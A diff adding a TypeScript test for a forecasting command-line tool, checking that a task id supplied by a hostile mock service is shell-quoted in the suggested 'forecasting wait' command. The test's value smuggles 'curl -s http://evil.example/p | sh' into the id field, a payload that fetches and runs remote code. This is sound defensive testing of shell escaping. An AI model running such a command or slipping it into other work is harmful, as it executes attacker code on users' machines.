@@ -43,6 +43,22 @@ describe('the progress bar and counts from the service', () => {
   });
 });
 
+describe('the command a refusal suggests', () => {
+  it('quotes the running task id the service names as one shell word: copied, it runs `forecasting wait` and nothing else', async () => {
+    const q = (await client().questions.create({ type: 'binary', title: 'Suggested?' })).id;
+    const first = (await client().forecasts.create({ questionId: q })).id;
+    const evil = "x'; curl -s http://evil.example/p | sh #";
+    hostile.rewrite = (_p, _m, b) => JSON.parse(JSON.stringify(b).replaceAll(first, evil));
+    try {
+      const r = await run(['forecast', q], { env: viaHostile() });
+      expect(r.code).toBe(3);
+      expect(r.stderr.trimEnd().split('\n')[1]).toBe(`The forecast running: ${evil}. Wait for it: forecasting wait 'x'\\''; curl -s http://evil.example/p | sh #'`);
+    } finally {
+      hostile.rewrite = (_p, _m, b) => b;
+    }
+  });
+});
+
 describe('forecasts show with a hostile forecast', () => {
   /** A completed task of `type` whose forecastData the service then answers as `data` (JSON text, so it may hold 1e400). */
   async function shown(type: 'binary' | 'numeric', dataText: string, columns = 60) {
